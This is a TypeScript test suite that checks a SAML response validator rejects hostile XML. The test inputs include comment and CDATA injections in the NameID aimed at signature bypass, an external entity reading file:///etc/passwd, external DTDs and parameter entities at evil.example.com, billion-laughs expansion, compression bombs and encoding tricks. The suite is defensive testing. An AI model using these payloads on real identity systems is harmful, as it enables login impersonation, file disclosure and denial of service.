import { describe, expect, it, vi } from 'vitest';
import { checkResponse } from '../../../src/crypto/saml/check-response.ts';
import { loginExpectationOf } from '../../saml-idp/expectation.ts';
import { base64Of } from '../../saml-idp/idp.ts';
import { ATTACKER, ask, elementOf, expectAttackToFail, honest, idp, REQUEST, swap } from './scene.ts';

/*
 * What XML can do besides carrying data, and what parsers and canonicalisers make of it in different ways (contract 06 section 6.3).
 * Where the signature covers the place, the signer itself is the attacker's tool: it signs a name that the attacker could choose.
 */
const NAME = `>${ATTACKER}</saml:NameID>`;
const inName = (content: string) => (xml: string) => swap(xml, NAME, `>adm${content}in@victim.example</saml:NameID>`);
const atStart = (content: string) => (xml: string) => content + xml;

describe('comments, processing instructions and CDATA', () => {
  const MARKUP = [
    ['a comment', '<!---->'],
    ['a comment with text', '<!-- x -->'],
    ['a processing instruction', '<?p not-an-?>'],
    ['CDATA', '<![CDATA[x]]>'],
    ['an empty CDATA section', '<![CDATA[]]>'],
  ] as const;

  // Canonicalisation leaves comments out: the signature over the longer name would hold.
  it.each(MARKUP)('%s in the NameID', (_, markup) =>
    expectAttackToFail(
      honest(),
      (xml) => swap(xml, NAME, `>${ATTACKER.slice(0, 4)}${markup}${ATTACKER.slice(4)}</saml:NameID>`),
      'REFUSED',
      /^comments, CDATA/,
    ),
  );

  it.each(MARKUP)('%s in what is signed as it stands', (_, markup) => {
    const plain = honest();
    expect(ask(plain).status).toBe('OK');
    expect(ask(inName(markup)(plain)).status).toBe('REFUSED');
  });

  it.each(['DigestValue', 'SignatureValue', 'X509Certificate', 'Audience', 'Issuer'])('a comment in %s', (local) =>
    expectAttackToFail(honest(), (xml) => xml.replace(`${local}>`, `${local}><!--x-->`), 'REFUSED', /^comments, CDATA/),
  );

  it('a DigestValue in halves, of which one is a comment', () =>
    expectAttackToFail(
      honest(),
      (xml) => xml.replace(/<ds:DigestValue>([^<]+)/, '<ds:DigestValue><!--AAAA-->$1'),
      'REFUSED',
      /^comments, CDATA/,
    ));

  it.each([
    ['a comment', '<!-- x -->'],
    ['a processing instruction', '<?xml-stylesheet href="x"?>'],
  ])('%s before the root', (_, markup) => expectAttackToFail(honest(), atStart(markup)));
});

describe('document types', () => {
  const LAUGHS = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

  it.each([
    ['an empty one', '<!DOCTYPE r>'],
    ['one in small letters', '<!doctype r>'],
    ['an external subset', '<!DOCTYPE r SYSTEM "https://evil.example.com/x.dtd">'],
    ['an external entity', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example.com/x"> %x;]>'],
    ['an entity of entities', `<!DOCTYPE r [<!ENTITY l0 "lol">${LAUGHS}]>`],
    ['an attribute that is declared an id', '<!DOCTYPE r [<!ATTLIST Assertion AssertionID ID #REQUIRED>]>'],
  ])('%s', (_, declaration) => expectAttackToFail(honest(), atStart(declaration), 'MALFORMED'));

  it('an entity that is used', () => {
    const attack = (xml: string): string => `<!DOCTYPE r [<!ENTITY x "victim">]>${swap(xml, NAME, '>&x;</saml:NameID>')}`;
    expectAttackToFail(honest(), attack, 'MALFORMED');
    expectAttackToFail(honest(), inName('&x;'), 'MALFORMED');
  });

  it('behind a declaration, and in the middle', () => {
    expectAttackToFail(honest({ declaration: true }), (xml) => xml.replace('?>', '?><!DOCTYPE r>'), 'MALFORMED');
    expectAttackToFail(honest(), inName('<!DOCTYPE r>'), 'MALFORMED');
    expectAttackToFail(honest(), inName('<!ENTITY x "y">'), 'MALFORMED');
  });
});

describe('characters and encodings', () => {
  it.each([
    '&#0;',
    '&#x0;',
    '&#1;',
    '&#xB;',
    '&#xFFFE;',
    '&#xFFFF;',
    '&#xD800;',
    '&#x110000;',
    '&#99999999;',
    `&#x${'0'.repeat(12)};`,
    `&#${'0'.repeat(20)}11;`,
    `&#${'9'.repeat(400)};`,
    '\u0000',
    '\u0001',
    '\u000b',
    '\uffff',
  ])('a character that XML does not have: %j', (character) => expectAttackToFail(honest(), inName(character), 'MALFORMED'));

  it.each(['&', ' & ', '&;', '&#;', '&#x;', '&amp', '&nbsp;', '&AMP;', '&#X41;', '&#12a;'])('a reference that is none: %j', (text) =>
    expectAttackToFail(honest(), inName(text), 'MALFORMED'),
  );

  it.each([
    '<?xml version="1.1"?>',
    '<?xml version="1.0" encoding="UTF-16"?>',
    '<?xml version="1.0" encoding="utf-7"?>',
    '<?xml version="1.0" encoding="ISO-8859-1"?>',
    '<?xml?>',
    '<?XML version="1.0"?>',
    ' <?xml version="1.0"?>',
    '<?xml version="1.0"?><?xml version="1.0"?>',
  ])('the declaration %s', (declaration) => expectAttackToFail(honest(), atStart(declaration), 'MALFORMED'));

  const posted = (bytes: Uint8Array) =>
    checkResponse({ samlResponse: Buffer.from(bytes).toString('base64'), expected: loginExpectationOf(idp, REQUEST) });

  it('UTF-16, with and without a mark, UTF-8 that is none, and two marks', () => {
    const xml = honest();
    expect(posted(Buffer.from(xml)).status).toBe('OK');
    expect(posted(Buffer.from(`\ufeff${xml}`)).status).toBe('OK');
    const utf16 = [Buffer.from(xml, 'utf16le'), Buffer.from(`\ufeff${xml}`, 'utf16le'), Buffer.from(`\ufeff${xml}`, 'utf16le').swap16()];
    const overlong = Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(xml)]);
    for (const bytes of [...utf16, overlong, Buffer.from(`\ufeff\ufeff${xml}`)]) expect(posted(bytes).status).toBe('MALFORMED');
  });

  it('the line ends of XML 1.1 are characters like others: what is signed with them holds, and they cannot be put for line feeds', () => {
    // As identity providers sign that know XML 1.0: the reference stands for the character while it is signed.
    const rewrite = (xml: string): string => xml.replace('one-two', 'one&#x2028;two&#x85;three');
    const attributes = [
      { name: 'mail', values: [ATTACKER] },
      { name: 'address', values: ['one-two'] },
    ];
    const signed = honest({ attributes, rewrite });
    expect(signed).toContain('one\u2028two\u0085three');
    expect(ask(signed)).toMatchObject({ status: 'OK', claims: { address: ['one\u2028two\u0085three'] } });
    expectAttackToFail(honest({ attributes, rewrite: (xml) => xml.replace('one-two', 'one\ntwo') }), (xml) =>
      xml.replace('one\ntwo', 'one\u2028two'),
    );
  });

  it('a compressed response, which this binding does not have', async () => {
    const { deflateRawSync, deflateSync, gzipSync } = await import('node:zlib');
    const xml = honest();
    const bomb = Buffer.alloc(50_000_000, ' ');
    expect(posted(Buffer.from(xml)).status).toBe('OK');
    for (const bytes of [deflateRawSync(xml), deflateSync(xml), gzipSync(xml), deflateRawSync(bomb), gzipSync(bomb)]) {
      expect(posted(bytes).status).toBe('MALFORMED');
    }
  });

  it('base64 of another alphabet, and with characters that decoders skip', () => {
    const base64 = base64Of(honest());
    const expected = loginExpectationOf(idp, REQUEST);
    expect(checkResponse({ samlResponse: base64, expected }).status).toBe('OK');
    for (const samlResponse of [
      `${base64}!`,
      `-${base64}`,
      base64.replace(/^../, '$&_'),
      `====${base64}`,
      `${base64}=\u00a0`,
      `${base64}====`,
    ]) {
      expect(checkResponse({ samlResponse, expected }).status).toBe('MALFORMED');
    }
  });
});

describe('structure', () => {
  const inExtensions = (content: string) => (xml: string) =>
    xml.replace('</saml:Issuer>', `</saml:Issuer><samlp:Extensions>${content}</samlp:Extensions>`);

  it.each([
    ['two roots', (xml: string) => xml + xml],
    ['text behind the root', (xml: string) => `${xml}x`],
    ['an end tag too many', (xml: string) => `${xml}</x>`],
    ['an attribute twice', (xml: string) => xml.replace(' Version="2.0"', ' Version="2.0" Version="2.0"')],
    ['a prefix that is not declared', inExtensions('<nobody:x/>')],
    ['an attribute without quotes', inExtensions('<x y=z/>')],
    ['an ampersand that means nothing', inExtensions('R&D')],
  ])('%s', (_, attack) => expectAttackToFail(honest(), attack, 'MALFORMED'));

  it.each([
    ['an attribute twice, by two prefixes', '<x xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2"/>'],
    ['the prefix xml for another namespace', '<x xmlns:xml="urn:x"/>'],
    ['another prefix for the namespace of xml', '<x xmlns:a="http://www.w3.org/XML/1998/namespace"/>'],
    ['a prefix for the namespace of declarations', '<x xmlns:a="http://www.w3.org/2000/xmlns/"/>'],
    ['a relative namespace', '<x xmlns:a="./urn"/>'],
    ['a namespace that is relative and plain', '<x xmlns="relative"/>'],
    ['encrypted data', '<x:EncryptedData xmlns:x="http://www.w3.org/2001/04/xmlenc#"/>'],
    ['an encrypted assertion', '<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/>'],
    ['65 levels', '<x>'.repeat(65) + '</x>'.repeat(65)],
    ['10,000 levels', '<x>'.repeat(10_000) + '</x>'.repeat(10_000)],
    ['25,000 elements', '<x/>'.repeat(25_000)],
    [
      '25,000 attributes',
      Array.from({ length: 25_000 }, (_, n) => `<x a="${n}"/>`)
        .join('')
        .slice(0, 240_000)
        .replace(/<[^>]*$/, ''),
    ],
  ])('%s', (_, content) => expectAttackToFail(honest(), inExtensions(content)));

  it('a prefix that is taken back', () => {
    const { status } = ask(inExtensions('<a:x xmlns:a="urn:x"><y xmlns:a=""/></a:x>')(honest()));
    expect(['MALFORMED', 'REFUSED']).toContain(status);
  });

  it('10 MB of nested elements are not even decoded', () => {
    const xml = honest();
    expect(ask(xml).status).toBe('OK');
    const samlResponse = base64Of(inExtensions('<x>'.repeat(1_300_000) + '</x>'.repeat(1_300_000))(xml));
    const expected = loginExpectationOf(idp, REQUEST);
    const decoding = vi.spyOn(Buffer, 'from');
    expect(checkResponse({ samlResponse, expected })).toEqual({ status: 'MALFORMED' });
    expect(decoding).not.toHaveBeenCalled();
  });

  it('many attributes on one element are too many nodes', () => {
    const attributes = Array.from({ length: 18_000 }, (_, n) => ` a${n.toString(36)}="${n % 10}"`).join('');
    const attack = inExtensions(`<x${attributes}/><x${attributes.slice(0, 60_000).replace(/ [^ ]*$/, '')}/>`);
    expectAttackToFail(honest(), attack, 'REFUSED', /^too many nodes$/);
  });

  it('an encrypted name, and one with elements in it', () => {
    const name = elementOf(honest(), 'NameID');
    expect(name).toContain(ATTACKER);
    const encrypted = '<saml:EncryptedID><x/></saml:EncryptedID>';
    expectAttackToFail(honest(), (xml) => xml.replace(/<saml:NameID .*<\/saml:NameID>/, encrypted), 'REFUSED', /^EncryptedID/);
  });
});
